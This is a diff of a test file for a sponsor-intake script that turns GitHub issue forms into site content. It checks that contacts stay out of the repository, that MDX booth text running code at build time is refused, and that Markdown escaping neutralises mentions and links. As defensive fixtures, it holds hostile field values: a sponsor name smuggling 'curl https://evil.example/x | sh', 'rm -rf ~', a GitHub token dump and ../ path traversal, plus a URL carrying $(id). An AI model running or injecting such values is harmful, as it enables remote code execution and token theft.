@@ -11,7 +11,7 @@ import { join, relative } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { parse } from 'yaml';
 import { runIntake, type IntakeResult } from '../../scripts/lib/intake/run.ts';
-import { formatFieldProblem, issueComment, markdownText } from '../../scripts/lib/intake/report.ts';
+import { formatFieldProblem, issueComment, markdownText, pullRequestBody } from '../../scripts/lib/intake/report.ts';
 import { loadProject } from '../../scripts/lib/project.ts';
 import { checkContent } from '../../src/lib/content-check.ts';
 import { formatProblem } from '../../src/lib/problems.ts';
@@ -83,9 +83,11 @@ describe('intake over saved issue bodies', () => {
     assert.equal(sponsor.tierInfo.id, 'gold');
     assert.deepEqual(sponsor.programmeTiers, ['wimir-champion']);
     assert.equal(sponsor.events[0]!.start, '2026-10-13T13:00:00Z');
-    // The private contact is in the file for the organisers; the model pages read drops it.
-    assert.match(copy.read('sponsors/acme-audio.mdx'), /private:\n {2}contacts:\n {4}- name: Jane Doe\n {6}email: jane\.doe@acme\.example/);
-    assert.equal(JSON.stringify(sponsor).includes('jane.doe@acme.example'), false);
+    // The contact stays on the (public) issue: nothing of it goes into the repository's files.
+    const written = changes.filter((c) => /\.(mdx|yaml)$/.test(c)).map((c) => readFileSync(join(copy.root, c), 'utf8')).join('\n');
+    assert.doesNotMatch(written, /jane\.doe@acme\.example|Jane Doe|private:/);
+    assert.deepEqual(result.submission!.notes.filter((n) => /contact/i.test(n)), ['The contact for the organisers is on the issue; it is not written into the repository.']);
+    assert.doesNotMatch(pullRequestBody(result, loadProject(copy.root), 12), /jane\.doe@acme\.example|Jane Doe/);
     // The <img> GitHub wrote for the dragged photo is now a Markdown image of the local file.
     assert.match(copy.read('sponsors/acme-audio.mdx'), /^!\[Our team at the lab in Berlin\]\(\.\/acme-audio\/image-1\.jpg\)$/m);
     const intern = parse(copy.read('roles/acme-audio/research-intern.yaml'));
@@ -151,6 +153,21 @@ describe('intake over saved issue bodies', () => {
     assert.match(comment, /\\<script\\>/);
   });
 
+  it('booth text that ran code during the build on 835d344 is refused, each with its line of the field', async () => {
+    const booth = (text: string) => fixture('complete-booth.md').replace(/### Booth text \(Markdown\)\n[\s\S]*?(?=### Roles)/, `### Booth text (Markdown)\n\n## Who we are\n\n${text}\n\n`);
+    const cases: [string, string[]][] = [
+      ['<td title={globalThis.process.exit(3)} />', ['Booth text (Markdown), line 3, <td>: raw HTML tables and their parts are not allowed', 'Booth text (Markdown), line 3, title={globalThis.process.exit(3)} on <td>: is code, which would run at build time']],
+      ['{`$\uF002{globalThis.process.exit(3)}`}', ['Booth text (Markdown), line 3, (hidden character): U+F002 (a private-use character, which has no meaning outside one program and which the MDX compiler treats specially) at column 4', 'Booth text (Markdown), line 3, {`$ {globalThis.process.exit(3)}`}: is code, which would run at build time']],
+      ['{"a" // note\u2028 + globalThis.process.exit(3)\n}', ['Booth text (Markdown), line 3, (hidden character): U+2028 (LINE SEPARATOR, which JavaScript reads as a line break) at column 13', 'Booth text (Markdown), line 3, {"a" // note<U+2028> + globalThis.process.exit(3…}: is code, which would run at build time']],
+    ];
+    for (const [text, expected] of cases) {
+      const { result, changes } = await intake(booth(text));
+      assert.equal(result.status, 'problems', text);
+      assert.deepEqual(changes, []);
+      assert.deepEqual(result.problems.map((p) => formatFieldProblem(p).split(/[:;] (?=invisible|write|put)/)[0]), expected);
+    }
+  });
+
   it('shell characters and ../ in otherwise valid answers stay text, inside src/content', async () => {
     const body = fixture('hostile.md')
       .replace(/### Logo\n\n.*\n/, '### Logo\n\n![logo](https://github.com/user-attachments/assets/a3f0c7de-2b8e-4d19-b6a1-5c4d3e2f1a00)\n')
@@ -162,6 +179,8 @@ describe('intake over saved issue bodies', () => {
     assert.deepEqual(result.problems.map(formatFieldProblem), []);
     assert.ok(changes.length > 0 && changes.every((c) => c.startsWith('src/content/')), changes.join('\n'));
     assert.ok(changes.includes('src/content/roles/evil-curl-s-https-evil-example-x-sh-rm-rf-echo-github-token-tmp-pwned/github-workflows-evil.yaml'), changes.join('\n'));
+    // The SVG logo arrives as the PNG drawn from it; no SVG file is written.
+    assert.ok(changes.some((c) => c.endsWith('/logo.png')) && !changes.some((c) => /\.svg$/i.test(c)), changes.join('\n'));
     const sponsor = checkContent(copy.root).model!.sponsors.find((s) => s.name.startsWith('Evil'))!;
     assert.equal(sponsor.name, 'Evil $(curl -s https://evil.example/x | sh); `rm -rf ~` && echo "${{ github.token }}" > ../../../../tmp/pwned');
     assert.equal(sponsor.website, 'https://evil.example/?q=$(id)&x=`whoami`');
@@ -276,5 +295,13 @@ describe('npm run intake (the command the workflow runs)', () => {
 describe('markdownText', () => {
   it('shows sponsor text literally and breaks mentions, but leaves e-mail addresses whole', () => {
     assert.equal(markdownText('<script>[x](javascript:1) @octocat jane@acme.example'), '\\<script\\>\\[x\\]\\(javascript:1\\) @\u200boctocat jane@acme.example');
+  });
+
+  it('breaks mentions after punctuation, issue references and bare addresses, which GitHub links in plain text', () => {
+    assert.equal(markdownText('-@team .@team +@team (@team)'), '-@\u200bteam .@\u200bteam \\+@\u200bteam \\(@\u200bteam\\)');
+    assert.equal(markdownText('see #12 and https://evil.example/x or WWW.evil.example'), 'see \\#\u200b12 and https:\u200b//evil.example/x or WWW\u200b.evil.example');
+    // What is left for GitHub to link: no "@name" and no "scheme://" or "www." in a row.
+    const shown = markdownText('hi -@a .@b +@c https://x.example www.y.example #3');
+    assert.doesNotMatch(shown, /(?<!\w)@\w|:\/\/|www\.|#\d/i);
   });
 });
